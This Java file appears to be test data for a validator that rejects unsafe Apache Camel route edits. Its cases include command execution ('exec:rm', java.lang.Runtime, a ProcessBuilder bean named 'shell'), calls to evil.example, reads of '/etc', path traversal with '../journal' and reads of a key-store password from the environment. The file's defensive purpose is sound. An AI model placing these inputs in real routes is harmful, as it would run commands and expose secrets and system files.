package org.fobstation.station;

import java.util.stream.Stream;

/** An edit of a route file; the line that is named holds {@code marker}. */
record BrokenRoute(String name, String file, String from, String to, String marker, String reason, String remedy) {

    private static final String PROVISION =
            "        - bean:\n            ref: provisioning\n            method: provision\n";

    /** A step before the card session. */
    static BrokenRoute step(String name, String step, String reason, String remedy) {
        return new BrokenRoute(
                name, "provision.yaml", PROVISION, "        - " + step + "\n" + PROVISION, step, reason, remedy);
    }

    @Override
    public String toString() {
        return name;
    }

    static Stream<BrokenRoute> cases() {
        String list = " to routes.allow if the site needs it";
        String environment = "reads the process's environment, where passwords are";
        String mend = "Mend the route or setting named here, then start again.";
        return Stream.of(
                BrokenRoute.step(
                        "a program",
                        "to: exec:rm",
                        "the component exec is not one that routes may use",
                        "add component:exec" + list),
                BrokenRoute.step(
                        "a program made of a message",
                        "toD: \"exec:${body}\"",
                        "the component exec is not",
                        "add component:exec" + list),
                BrokenRoute.step(
                        "a program in an enrich step",
                        "enrich: { constant: \"exec:id\" }",
                        "the component exec is not",
                        "add component:exec" + list),
                BrokenRoute.step(
                        "a program behind a setting",
                        "to: \"{{site.scheme}}:id\"",
                        "the component exec is not",
                        "add component:exec" + list),
                BrokenRoute.step(
                        "plain HTTP",
                        "to: http://mes.example/x",
                        "the component http is not",
                        "add component:http" + list),
                BrokenRoute.step(
                        "another host",
                        "to: https://evil.example/x",
                        "the host evil.example:443 is not one that routes may call",
                        "add host:evil.example:443" + list),
                BrokenRoute.step(
                        "a file of the system",
                        "to: file:/etc",
                        "the folder /etc is not one that routes may use",
                        "add folder:/etc" + list),
                BrokenRoute.step(
                        "a request to the station itself",
                        "to: \"file:{{data.dir}}/requests\"",
                        "requests is not one that routes may use",
                        list),
                BrokenRoute.step(
                        "the journal",
                        "to: \"file:{{data.dir}}/archive/../journal\"",
                        "journal is not one that routes may use",
                        list),
                BrokenRoute.step(
                        "a class as an endpoint",
                        "to: class:java.lang.Runtime",
                        "the component class is not",
                        "add component:class" + list),
                BrokenRoute.step(
                        "a class as a bean",
                        "bean: { beanType: java.lang.Runtime, method: exec }",
                        "the class java.lang.Runtime is not",
                        "add class:java.lang.Runtime" + list),
                BrokenRoute.step(
                        "a class by the name of a bean",
                        "bean: { ref: org.apache.camel.component.file.FileOperations, method: deleteFile }",
                        "the class org.apache.camel.component.file.FileOperations is not",
                        "add class:org.apache.camel.component.file.FileOperations" + list),
                BrokenRoute.step(
                        "a class by the name of a bean in an address",
                        "to: \"bean:org.apache.camel.component.file.FileOperations?method=deleteFile\"",
                        "the class org.apache.camel.component.file.FileOperations is not",
                        list),
                BrokenRoute.step(
                        "a class by the name of a bean in an expression",
                        "setBody: { simple: \"${bean:com.fasterxml.jackson.databind.ObjectMapper?method=readTree}\" }",
                        "the class com.fasterxml.jackson.databind.ObjectMapper is not",
                        list),
                BrokenRoute.step(
                        "a class by the name of a bean as a value",
                        "setBody: { method: { ref: com.fasterxml.jackson.databind.ObjectMapper, method: readTree } }",
                        "the class com.fasterxml.jackson.databind.ObjectMapper is not",
                        list),
                BrokenRoute.step(
                        "a class as a value",
                        "setBody: { method: com.fasterxml.jackson.databind.ObjectMapper }",
                        "the class com.fasterxml.jackson.databind.ObjectMapper is not",
                        list),
                BrokenRoute.step(
                        "a file of the journal by way of a temporary one",
                        "to: \"file:{{data.dir}}/site?tempPrefix=../journal/\"",
                        "tempPrefix = ../journal/ leads out of the folder",
                        "Write a path below it"),
                BrokenRoute.step(
                        "another folder by an option in other letters",
                        "to: \"file:{{data.dir}}/site?temp-File-Name=$simple{header.x}\"",
                        "temp-File-Name = $simple{header.x} leads out of the folder",
                        "Write a path below it"),
                BrokenRoute.step(
                        "a class in an expression",
                        "setBody: { simple: \"${bean:type:java.lang.Runtime?method=exec}\" }",
                        "the class java.lang.Runtime is not",
                        "add class:java.lang.Runtime" + list),
                BrokenRoute.step(
                        "a script",
                        "setBody: { groovy: \"1 + 1\" }",
                        "the language groovy is not",
                        "add language:groovy" + list),
                BrokenRoute.step(
                        "a script by its general form",
                        "setBody: { language: { language: js, expression: \"1\" } }",
                        "the language js is not",
                        "add language:js" + list),
                BrokenRoute.step(
                        "a script step",
                        "script: { simple: \"${body}\" }",
                        "script makes objects of any class",
                        "Take it out"),
                BrokenRoute.step(
                        "Camel from within",
                        "setBody: { simple: \"${camelContext.stop}\" }",
                        "an expression reaches into Camel or into classes",
                        "Use body, header"),
                BrokenRoute.step(
                        "a class loader",
                        "setBody: { simple: \"${body.getClass.forName('x')}\" }",
                        "an expression reaches into Camel or into classes",
                        "Use body, header"),
                BrokenRoute.step(
                        "a password in an expression",
                        "log: { message: \"${env.KLMS_KEY_STORE_PASSWORD}\" }",
                        "an expression " + environment,
                        "Use {{site.name}}"),
                BrokenRoute.step(
                        "a password in a placeholder",
                        "log: { message: \"{{env:KLMS_KEY_STORE_PASSWORD}}\" }",
                        "a placeholder " + environment,
                        "Use a setting site.*"),
                BrokenRoute.step(
                        "a password in a placeholder that may be without a value",
                        "log: { message: \"{{?env:KLMS_KEY_STORE_PASSWORD}}\" }",
                        "a placeholder " + environment,
                        "Use a setting site.*"),
                BrokenRoute.step(
                        "a placeholder that is made of another",
                        "log: { message: \"{{{{site.none:env}}:KLMS_KEY_STORE_PASSWORD}}\" }",
                        "a placeholder stands within another",
                        "Write each by itself"),
                BrokenRoute.step(
                        "an expression from elsewhere",
                        "setBody: { simple: \"resource:https://evil.example/x\" }",
                        "an expression is loaded from elsewhere",
                        "Write it into the route"),
                BrokenRoute.step(
                        "the address of keys",
                        "to: \"{{klms.url}}/.{{klms.keys-path}};x?httpClient=#klmsAuditClient\"",
                        "keys and cards are the station's own",
                        "Go through direct:key-package"),
                BrokenRoute.step(
                        "cards",
                        "bean: { ref: smartCardService, method: establish }",
                        "keys and cards are the station's own",
                        "Go through direct:key-package"),
                new BrokenRoute(
                        "beans of the file's own",
                        "audit.yaml",
                        "- routeConfiguration:",
                        "- beans:\n    - name: shell\n      type: java.lang.ProcessBuilder\n- routeConfiguration:",
                        "- beans:",
                        "beans makes objects of any class",
                        "Take it out"),
                new BrokenRoute(
                        "a class as a strategy",
                        "provision.yaml",
                        "aggregationStrategy: keyPackageIntoRun",
                        "aggregationStrategy: \"#class:java.lang.ProcessBuilder\"",
                        "#class:java.lang",
                        "the class java.lang.ProcessBuilder is not",
                        "add class:java.lang.ProcessBuilder" + list),
                new BrokenRoute(
                        "a misspelt component",
                        "klms.yaml",
                        "direct:klms-keys",
                        "drect:klms-keys",
                        "drect:klms-keys",
                        "the component drect is not",
                        "Take it out, or add component:drect" + list),
                new BrokenRoute(
                        "no YAML",
                        "replay.yaml",
                        "- route:",
                        "- route: [",
                        "routeConfigurationId: audit-tickets",
                        "it is no YAML",
                        "Mend the text there"),
                new BrokenRoute(
                        "a step Camel does not know", "provision.yaml", "- bean:", "- baen:", "- baen:", "baen", mend),
                new BrokenRoute(
                        "an option that does not exist",
                        "provision.yaml",
                        "debounce:",
                        "debonce:",
                        null,
                        "debonce",
                        mend),
                new BrokenRoute(
                        "a bean that does not exist",
                        "provision.yaml",
                        "ref: provisioning",
                        "ref: provisionning",
                        "- bean:",
                        "provisionning",
                        mend),
                new BrokenRoute(
                        "a method that does not exist",
                        "provision.yaml",
                        "method: provision\n",
                        "method: provide\n",
                        null,
                        "provide",
                        mend),
                new BrokenRoute(
                        "a route that nobody wrote",
                        "audit.yaml",
                        "- to: direct:audit-archive",
                        "- to: direct:audit-archiv",
                        "direct:audit-archiv",
                        "no route begins with direct:audit-archiv",
                        "Correct the name"),
                new BrokenRoute(
                        "a run without its report",
                        "provision.yaml",
                        "method: report",
                        "method: provision",
                        null,
                        "calls the bean provisioning for [begin, provision, provision]",
                        "Put the steps back"));
    }
}
